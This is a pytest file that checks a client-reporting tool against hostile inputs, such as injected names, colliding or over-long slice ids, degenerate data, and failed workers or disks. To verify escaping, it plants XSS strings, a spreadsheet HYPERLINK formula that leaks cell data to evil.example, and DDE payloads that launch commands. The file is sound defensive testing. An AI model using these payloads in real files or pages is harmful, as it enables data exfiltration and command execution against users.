"""Hostile and broken inputs (issue 14): injected names, colliding and over-long slices,
degenerate regions, unwritable outputs and a worker killed mid-run.

The end-to-end run is the bundled sample client (`clientbook sample`, few customers) with
hostile strings planted in the client name, the firm, regions, products, channels, customer
names, lead owners and survey comments, plus degenerate regions (all refunds, all zero, one
customer, one day of data). It runs once per session (`hostile_run`, also used by the browser
test in test_browser.py).
"""

from __future__ import annotations

import errno
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from clientbook.config import audit_file as audit_mod
from clientbook.config.audit_file import slugify, unique_slugs
from clientbook.data import sample
from clientbook.data.dataset import slices
from clientbook.run import cli, runner

REPO = Path(__file__).resolve().parents[1]
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LONG = "Region " + "L" * 293  # 300 characters
HOSTILE_REGIONS = [
    SCRIPT,
    IMG,
    FORMULA,
    "North East",
    "north-east",
    "NORTH.EAST",
    "..",
    LONG,
    "🚀🌏",
    "CON",
]
DEGENERATE = ["Refunds only", "Zero amounts", "One customer", "One day"]
CLIENT = f"AT&T {SCRIPT}"
COMMENTS = [
    f"Terrible {SCRIPT} service",
    f"{IMG} broken",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 555 0100 call me",
    "-2+3+cmd|' /C calc'!A0",
    "\tTabbed =1+1",
    "\rreturn =1+1",
]


def plant_hostile(raw: Path) -> None:
    """Rewrite the sample export in `raw` in place: hostile names and degenerate regions."""
    cust_path, orders_path = raw / "customers.csv", raw / "orders.csv"
    cust = pd.read_csv(cust_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    orders = pd.read_csv(orders_path, dtype=str, keep_default_na=False, sep=";")
    ordering = set(orders["Customer"])
    ids = [c for c in cust["客户编号"] if c in ordering]
    names = HOSTILE_REGIONS + DEGENERATE
    region = {}
    one = ids[0]
    region[one] = "One customer"
    rest = [c for c in ids[1:]]
    others = [n for n in names if n != "One customer"]
    for i, c in enumerate(rest):
        region[c] = others[i % len(others)]
    cust["区域"] = cust["客户编号"].map(region).fillna(cust["区域"])
    cust.loc[cust.index[:3], "客户名称"] = [SCRIPT, FORMULA, "=cmd|' /C calc'!A0"]
    cust.loc[cust["渠道"] == "Retail store", "渠道"] = IMG
    cust.to_csv(cust_path, index=False, encoding="utf-8-sig")

    in_region = orders["Customer"].map(region)
    amount = orders["Net Amount"].str.replace(",", ".").astype(float)
    refunds = in_region == "Refunds only"
    amount[refunds] = -amount[refunds].abs()
    amount[in_region == "Zero amounts"] = 0.0
    orders["Net Amount"] = amount.map(lambda v: f"{v:.2f}".replace(".", ","))
    orders.loc[in_region == "One day", "Order Date"] = "15/06/2025"
    products = {
        "Laptop Bag": SCRIPT,
        "Wireless Mouse": IMG,
        "Toner Cartridge": FORMULA,
        "Ink Cartridge Set": "AT&T Ink",
        "Laptop": "@Laptop",
    }
    orders["Product"] = orders["Product"].replace(products)
    orders.to_csv(orders_path, index=False, sep=";")

    surveys = pd.read_csv(raw / "surveys.csv", dtype=str, keep_default_na=False)
    n = min(len(surveys), len(COMMENTS) * 3)
    surveys.loc[surveys.index[:n], "comment"] = [COMMENTS[i % len(COMMENTS)] for i in range(n)]
    surveys.to_csv(raw / "surveys.csv", index=False)
    leads = pd.read_csv(raw / "leads.csv", dtype=str, keep_default_na=False)
    leads.loc[leads.index[::3], "owner"] = IMG
    leads.loc[leads.index[1::3], "region"] = SCRIPT
    leads.to_csv(raw / "leads.csv", index=False)


def hostile_audit(raw: Path, path: Path, name: str = "hostile") -> Path:
    demo = (REPO / "audits" / "demo.yaml").read_text(encoding="utf-8")
    text = demo.replace("../outputs/sample/raw", str(raw))
    text = re.sub(r"(?m)^client: .*$", "client: " + json.dumps(CLIENT), text)
    text = re.sub(r"(?m)^name: .*$", f"name: {name}", text)
    text = re.sub(r"(?m)^as_of: .*$", 'as_of: "2026-01-01"', text)
    text = text.replace("by: [region, period]", "by: [region]")
    text = re.sub(r"(?m)^  firm: .*$", "  firm: " + json.dumps(IMG), text)
    path.write_text(text, encoding="utf-8")
    return path


def hostile_run(tmp_root: Path) -> tuple[Path, int, str]:
    """The hostile demo, generated and run once per session under `tmp_root` with the CLI:
    (outputs/<audit> folder, exit code, stderr)."""
    out = tmp_root / "outputs"
    done = tmp_root / "done.json"
    if done.exists():
        d = json.loads(done.read_text())
        return out / "hostile", d["code"], d["stderr"]
    raw = tmp_root / "raw"
    sample.generate(raw, customers=60, seed=7)
    plant_hostile(raw)
    audit = hostile_audit(raw, tmp_root / "hostile.yaml")
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "clientbook.run.cli",
            "run",
            str(audit),
            "--outputs",
            str(out),
            "--jobs",
            "2",
            "--quiet",
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO / "lib")},
        timeout=1200,
    )
    done.write_text(json.dumps({"code": proc.returncode, "stderr": proc.stderr}))
    return out / "hostile", proc.returncode, proc.stderr


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> tuple[Path, int, str]:
    return hostile_run(tmp_path_factory.getbasetemp() / "hostile")


# ---- the hostile demo, end to end --------------------------------------------------------


def test_hostile_demo_exits_cleanly(hostile):
    root, code, stderr = hostile
    assert code == 0, stderr
    run = json.loads((root / "run.json").read_text(encoding="utf-8"))
    assert run["failures"] == [] and run["render_errors"] == []


class _Markup(HTMLParser):
    """What a browser would run in a page: event-handler attributes, javascript: links and
    script bodies that call alert."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}={value}>")
            if name in ("src", "href") and (value or "").strip().lower().startswith("javascript:"):
                self.bad.append(f"<{tag} {name}={value}>")
        self._script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and "alert(" in data:
            self.bad.append(f"<script>{data[:60]}")


def test_no_unescaped_script_in_any_html(hostile):
    root, _, _ = hostile
    pages = [
        p for p in sorted(root.rglob("*.html")) if "assets" not in p.relative_to(root).parts
    ]  # not the vendored reveal.js
    assert len(pages) >= 2 * 15  # report and slides of every slice, and the index
    for page in pages:
        body = page.read_text(encoding="utf-8")
        # The planted tags only ever appear escaped (as text), never as markup.
        assert not re.search(r"<script>\s*alert", body, flags=re.I), page
        assert not re.search(r"<[a-z][^<>]*\bonerror\s*=", body, flags=re.I), page
        parser = _Markup()
        parser.feed(body)
        assert parser.bad == [], page
    report = (root / "slices" / "all" / "report.html").read_text(encoding="utf-8")
    # Readable, not double escaped: the browser shows AT&T and the literal tag.
    assert "AT&amp;T &lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert "&amp;amp;" not in report and "&amp;lt;" not in report
    assert "&amp;#" not in report  # no character reference shown as text


def test_no_formula_cell_in_any_workbook(hostile):
    root, _, _ = hostile
    books = sorted(root.rglob("*.xlsx"))
    assert books
    texts = 0
    for path in books:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        texts += 1
                        assert cell.quotePrefix, (path.name, cell.coordinate)
    assert texts > 0  # the planted names reached a workbook and were kept as text


def test_every_region_has_its_own_folder(hostile):
    root, _, _ = hostile
    run = json.loads((root / "run.json").read_text(encoding="utf-8"))
    regions = [s for s in run["slices"] if s["kind"] == "region"]
    # "Unknown": the sample's orders from customers missing in customers.csv.
    assert sorted(s["label"] for s in regions) == sorted(HOSTILE_REGIONS + DEGENERATE + ["Unknown"])
    ids = [s["id"] for s in regions]
    assert len(set(ids)) == len(ids)
    for sid in ids:
        assert (root / "slices" / sid / "report.html").is_file()
        assert len(sid.encode()) <= 80
    index = (root / "index.html").read_text(encoding="utf-8")
    assert "North East" in index and "NORTH.EAST" in index and LONG in index


def test_degenerate_regions_say_too_little_data(hostile):
    root, _, _ = hostile
    run = json.loads((root / "run.json").read_text(encoding="utf-8"))
    ids = {s["label"]: s["id"] for s in run["slices"]}
    for name in DEGENERATE:
        report = (root / "slices" / ids[name] / "report.html").read_text(encoding="utf-8")
        assert 'class="cb-failed"' not in report, name
    for name in ("Refunds only", "Zero amounts"):
        report = (root / "slices" / ids[name] / "report.html").read_text(encoding="utf-8")
        assert "Too little data" in report, name
        assert "An Exception was encountered" not in report, name


# ---- slice ids -----------------------------------------------------------------------------


def test_slugify_keeps_plain_names_and_bounds_the_rest():
    assert slugify("East China") == "east-china"
    assert slugify("华东") == "华东"
    long = slugify(LONG)
    assert len(long) <= audit_mod.SLUG_MAX and long.startswith("region-lll")
    assert long != slugify(LONG + "x")  # same prefix, different names, different slugs
    assert slugify("..") != slugify("🚀") and slugify("..").startswith("x-")
    assert slugify("..") == slugify("..")  # stable
    assert slugify("CON") != "con" and slugify("lpt1").startswith("lpt1-")


def test_colliding_names_get_distinct_stable_ids():
    names = ["North East", "north-east", "NORTH.EAST", "East", "x", "..", "🚀"]
    slugs = unique_slugs(names)
    assert len(set(slugs.values())) == len(names)
    assert slugs["East"] == "east" and slugs["x"] == "x"
    # A name keeps its id when others are added or the order changes.
    again = unique_slugs(list(reversed(names)) + ["North-East!"])
    assert all(again[n] == slugs[n] for n in names)
    manifest = {
        "slicing": ["region"],
        "periods": [],
        "regions": [{"name": n, "slug": "ignored", "customers": 1} for n in names],
    }
    got = slices(manifest)
    assert [s.label for s in got[1:]] == names
    assert len({s.id for s in got}) == len(names) + 1


# ---- runner failures ---------------------------------------------------------------------


KILLER = """
if slice_id == "region-north":
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)
from clientbook.present import playbook
book = playbook.start(dataset_dir, slice_id, lang, output_dir)
playbook.say("classification.title")
"""


def _killer_audit(small_audit: Path, tmp_path: Path) -> Path:
    pb = tmp_path / "playbooks"
    pb.mkdir()
    shutil.copy(REPO / "playbooks" / "00_data_audit.ipynb", pb)
    nb = nbformat.read(REPO / "playbooks" / "00_data_audit.ipynb", as_version=4)
    nb.cells = [nb.cells[1], nbformat.v4.new_code_cell(KILLER)]
    nbformat.write(nb, pb / "01_killer.ipynb")
    text = small_audit.read_text().replace(
        "steps: [data_audit, classification]", f"playbooks_dir: {pb}"
    )
    small_audit.write_text(text)
    return small_audit


def test_a_killed_kernel_fails_its_slice_and_the_run(small_audit, tmp_path, capsys, monkeypatch):
    import tempfile

    audit = _killer_audit(small_audit, tmp_path)
    out = tmp_path / "outputs"
    # A temp folder of its own (short: kernel sockets live there), so other runs on this
    # machine cannot leave kernel folders in what the test looks at.
    own_tmp = Path(tempfile.mkdtemp(prefix="cbt-"))
    monkeypatch.setattr(tempfile, "tempdir", str(own_tmp))
    code = cli.main(["run", str(audit), "--outputs", str(out), "--jobs", "2", "--quiet"])
    assert code == 1
    run = json.loads((out / "small" / "run.json").read_text())
    assert [(f["slice_id"], f["step"]) for f in run["failures"]] == [("region-north", "killer")]
    assert "died" in run["failures"][0]["error"].lower()
    assert {s["id"] for s in run["slices"]} == {
        "all",
        "region-east",
        "region-north",
        "period-2025-Q1",
    }
    for sid in ("all", "region-east", "period-2025-Q1"):
        res = json.loads((out / "small" / "slices" / sid / "results.json").read_text())
        assert "data_audit" in res
    assert "FAILED" in capsys.readouterr().err
    assert list(own_tmp.glob("clientbook-kernel-*")) == []  # the workers' kernel folders are gone
    shutil.rmtree(own_tmp, ignore_errors=True)


def test_a_folder_the_system_refuses_fails_only_its_slice(small_audit, tmp_path, monkeypatch):
    # What a 300-character region name did: `File name too long` outside any notebook.
    real_mkdir = Path.mkdir

    def mkdir(self, *args, **kwargs):
        if "region-east" in self.parts:
            raise OSError(errno.ENAMETOOLONG, "File name too long", str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    out = tmp_path / "outputs"
    summary = runner.run(audit_mod.load(small_audit), out, jobs=1, show_progress=False)
    assert {(f.slice_id, f.step) for f in summary.failures} == {
        ("region-east", "data_audit"),
        ("region-east", "classification"),
    }
    assert "File name too long" in summary.failures[0].error
    run = json.loads((out / "small" / "run.json").read_text())
    assert {s["id"] for s in run["slices"]} == {
        "all",
        "region-east",
        "region-north",
        "period-2025-Q1",
    }
    east = next(s for s in run["slices"] if s["id"] == "region-east")
    assert east["failed_steps"] == ["data_audit", "classification"]
    # jobs=1: the one worker went on with the slices after the broken one.
    for sid in ("all", "region-north", "period-2025-Q1"):
        assert (out / "small" / "slices" / sid / "report.html").exists()
    index = (out / "small" / "index.html").read_text()
    assert 'class="failed" data-slice="region-east"' in index


def test_a_crashed_worker_never_yields_a_silent_partial_run(
    small_audit, tmp_path, monkeypatch, capsys
):
    def crash(*args, **kwargs):
        raise OSError(errno.ENAMETOOLONG, "File name too long")

    real = runner.run_slice

    def flaky(worker, sl, *args, **kwargs):
        if sl.id == "region-north":
            crash()
        return real(worker, sl, *args, **kwargs)

    monkeypatch.setattr(runner, "run_slice", flaky)
    out = tmp_path / "outputs"
    code = cli.main(["run", str(small_audit), "--outputs", str(out), "--jobs", "1", "--quiet"])
    assert code == 1
    run = json.loads((out / "small" / "run.json").read_text())
    north = [f for f in run["failures"] if f["slice_id"] == "region-north"]
    assert {f["step"] for f in north} == {"data_audit", "classification"}
    assert "File name too long" in north[0]["error"]
    assert (out / "small" / "slices" / "period-2025-Q1" / "report.html").exists()
    index = (out / "small" / "index.html").read_text()
    assert 'class="failed" data-slice="region-north"' in index
    assert "region-north" in capsys.readouterr().err


# ---- outputs folder problems -------------------------------------------------------------


def _previous(out: Path) -> None:
    (out / "small").mkdir(parents=True)
    (out / "small" / "index.html").write_text("previous run")


def _one_line(err: str) -> str:
    lines = [x for x in err.strip().splitlines() if x.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


def test_unwritable_outputs_folder(small_audit, tmp_path, monkeypatch, capsys):
    out = tmp_path / "outputs"
    _previous(out)
    real_mkdir = Path.mkdir

    def mkdir(self, *args, **kwargs):
        if self.name == "small.new":
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    code = cli.main(["run", str(small_audit), "--outputs", str(out), "--quiet"])
    assert code == 2
    line = _one_line(capsys.readouterr().err)
    assert "not writable" in line and str(out) in line
    assert (out / "small" / "index.html").read_text() == "previous run"


def test_disk_full(small_audit, tmp_path, monkeypatch, capsys):
    out = tmp_path / "outputs"
    _previous(out)

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(runner.render, "render_index", full)
    code = cli.main(["run", str(small_audit), "--outputs", str(out), "--quiet", "-j", "2"])
    assert code == 2
    line = _one_line(capsys.readouterr().err)
    assert "disk" in line.lower() and "full" in line.lower()
    assert (out / "small" / "index.html").read_text() == "previous run"
    assert not (out / "small.new").exists()


def test_previous_outputs_that_cannot_be_moved(small_audit, tmp_path, monkeypatch, capsys):
    out = tmp_path / "outputs"
    _previous(out)
    real_rename = Path.rename

    def rename(self, target):
        if self.name == "small":
            raise PermissionError(errno.EBUSY, "Device or resource busy", str(self))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    code = cli.main(["run", str(small_audit), "--outputs", str(out), "--quiet", "-j", "2"])
    assert code == 2
    line = _one_line(capsys.readouterr().err)
    assert str(out / "small.new") in line and str(out / "small") in line
    assert (out / "small" / "index.html").read_text() == "previous run"
    assert (out / "small.new" / "index.html").exists()  # the complete new run, kept


# ---- spreadsheets ------------------------------------------------------------------------


def test_formula_like_text_is_written_as_text(tmp_path):
    from clientbook.deliver.xlsx import write_action_lists

    texts = [
        FORMULA,
        "=cmd|' /C calc'!A0",
        "+1 555",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "plain",
        "a=b",
    ]
    df = pd.DataFrame({"=Name": texts, "amount": [-5.5, -1, 0, 2, 3, 4, 5, 6, 7]})
    path = write_action_lists(tmp_path / "actions.xlsx", {"Win-back": df})
    write_action_lists(path, {"Other": df.head(2)})  # reopened, the first sheet is kept as is
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        cells = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
    for ws in (wb["Win-back"], wb["Other"]):  # the lists (the summary sheet comes first)
        header, *rows = list(ws.iter_rows(values_only=True))
        assert header == ("=Name", "amount")
        assert [r[0] for r in rows] == texts[: len(rows)]  # the text itself, no quote added
        assert [r[1] for r in rows] == df["amount"].tolist()[: len(rows)]
        assert all(c.data_type == "n" for c in ws["B"][1:])  # negative numbers stay numbers
        assert ws["A1"].quotePrefix and ws["A2"].quotePrefix and not ws["A9"].quotePrefix


# ---- the PDF -----------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs pdftotext (poppler-utils)")
def test_nothing_in_a_report_runs_while_it_prints(tmp_path):
    from clientbook.deliver import pdf

    if pdf.find_chromium() is None:
        pytest.skip(f"no system Chromium: {pdf.INSTALL_HINT}")
    pytest.importorskip("playwright.sync_api")
    html = tmp_path / "report.html"
    html.write_text(
        "<html><head><title>r</title></head><body><p>Report body</p>"
        "<script>document.write('SCRIPT RAN')</script>"
        "<img src=x onerror=\"document.body.append('HANDLER RAN')\">"
        "<iframe srcdoc=\"<script>parent.document.body.append('FRAME RAN')</script>\"></iframe>"
        "</body></html>",
        encoding="utf-8",
    )
    out = tmp_path / "report.pdf"
    assert pdf.print_pdf(html, out) is None
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True).stdout
    assert "Report body" in text
    assert "RAN" not in text, text


# ---- narrative ---------------------------------------------------------------------------

NASTY = [
    SCRIPT,
    IMG,
    FORMULA,
    "AT&T",
    "[x](javascript:alert(1))",
    "![i](x)",
    "*a* _b_ `c`",
    "a\\b $1 and $2",
    "<http://evil.example>",
    "see http://evil.example/x",
    "&amp; &lt;",
]


def _rendered(markdown: str) -> str:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


def _text_of(html_text: str) -> str:
    import html

    return html.unescape(re.sub(r"<[^>]+>", "", html_text)).strip()


@pytest.mark.parametrize("value", NASTY)
def test_a_field_shows_exactly_as_written(value):
    from clientbook.present.playbook import escape_field

    html_text = _rendered(f"**Client:** {escape_field(value)}")
    assert "<strong>Client:</strong>" in html_text  # the catalogue's Markdown still works
    assert _text_of(html_text) == f"Client: {value}"
    assert "<a " not in html_text and "<img" not in html_text and "<script" not in html_text
    assert "<em>" not in html_text and "<code>" not in html_text


@pytest.mark.parametrize("value", NASTY)
def test_composed_text_keeps_its_markdown_and_drops_the_data_markup(value):
    from clientbook.present.playbook import escape_markdown

    html_text = _rendered(escape_markdown(f"- **Finding:** {value}\n- second"))
    assert html_text.count("<li>") == 2 and "<strong>Finding:</strong>" in html_text
    assert "<a " not in html_text and "<img" not in html_text and "<script" not in html_text
    if not set("*_`") & set(value):  # emphasis in composed text is the catalogue's to use
        assert f"Finding: {value}" in _text_of(html_text)


def test_say_and_bullets_escape_the_data(monkeypatch):
    from clientbook.present import i18n, playbook

    shown = []
    monkeypatch.setattr(playbook, "_display", lambda data, metadata=None: shown.append(data))
    i18n.use("en")
    playbook.say("common.too_little_data", reason=SCRIPT)
    playbook.bullets([f"{IMG} buys", "plain"])
    assert "&lt;script&gt;" in shown[0]["text/markdown"] and SCRIPT in shown[0]["text/plain"]
    assert shown[1]["text/markdown"] == "- &lt;img src=x onerror=alert(1)&gt; buys\n- plain"
    from clientbook.deliver.deck import plain

    assert plain(shown[1]["text/markdown"]) == f"• {IMG} buys\n• plain"  # the PPTX notes


def test_a_chart_prints_dollar_signs_in_labels_as_they_are(monkeypatch):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from clientbook.present import playbook

    shown = []
    monkeypatch.setattr(
        playbook, "_display", lambda data, metadata=None: shown.append((data, metadata))
    )
    fig, ax = plt.subplots()
    name = r"$\notacommand{x}$ Bag"  # TeX math would fail on this product name
    ax.bar([name, "$5 and $6"], [1, 2])
    ax.set_title(name)
    playbook.chart(fig, headline=f"{name} {SCRIPT}", notes=f"{IMG} sells")
    data, meta = shown[0]
    assert data["image/png"]
    assert meta["clientbook"]["headline"] == f"{name} {SCRIPT}"  # plain text; escaped on use
    assert meta["clientbook"]["notes"] == "&lt;img src=x onerror=alert(1)&gt; sells"


def test_an_outputs_path_that_cannot_be_a_folder(small_audit, tmp_path, capsys):
    # Real, not simulated: the outputs folder would have to be created inside a file.
    blocker = tmp_path / "afile"
    blocker.write_text("not a folder")
    code = cli.main(["run", str(small_audit), "--outputs", str(blocker / "out"), "--quiet"])
    assert code == 2
    line = _one_line(capsys.readouterr().err)
    assert "not writable" in line and str(blocker / "out") in line
    assert blocker.read_text() == "not a folder"


def test_a_full_disk_seen_by_a_worker_ends_the_run():
    sl = slices({"slicing": [], "regions": [], "periods": []})[0]
    ok = runner.SliceOutcome({"id": "all"}, [runner.NotebookRun("all", "x", "x", 0, True)], [])
    runner._check_disk([ok])  # nothing to say
    full = runner.failed_slice(
        sl,
        [Path("00_data_audit.ipynb")],
        Path("."),
        OSError(errno.ENOSPC, "No space left on device"),
    )
    with pytest.raises(OSError) as e:
        runner._check_disk([ok, full])
    assert e.value.errno == errno.ENOSPC


# ---- degenerate books --------------------------------------------------------------------


@pytest.mark.parametrize("amounts", [[-10.5, 0.0, -5.0], [0.0, 0.0, 0.0]], ids=["refunds", "zero"])
def test_a_book_without_net_purchases_says_too_little_data(tmp_path, amounts):
    export = tmp_path / "export"
    export.mkdir()
    pd.DataFrame(
        {
            "order_id": ["O1", "O2", "O3"],
            "customer_id": ["C1", "C2", "C1"],
            "date": ["2025-03-05", "2025-03-05", "2025-03-05"],  # one day of data
            "amount": amounts,
        }
    ).to_csv(export / "orders.csv", index=False)
    pd.DataFrame({"customer_id": ["C1", "C2"], "region": ["East", "West"]}).to_csv(
        export / "customers.csv", index=False
    )
    from conftest import write_audit

    audit = write_audit(tmp_path / "tiny.yaml", export, "steps: [data_audit, classification]")
    out = tmp_path / "outputs"
    summary = runner.run(audit_mod.load(audit), out, jobs=1, show_progress=False)
    assert summary.failures == [] and summary.render_errors == []
    for s in summary.slices:
        report = (out / "small" / "slices" / s["id"] / "report.html").read_text()
        assert "Too little data" in report and "no customer has net purchases" in report
        assert "An Exception was encountered" not in report
        executed = nbformat.read(
            out / "small" / "slices" / s["id"] / "notebooks" / "01_classification.ipynb",
            as_version=4,
        )
        errors = [
            o
            for c in executed.cells
            for o in c.get("outputs", [])
            if o.get("output_type") == "error"
        ]
        assert [e["ename"] for e in errors] == ["TooLittleData"]
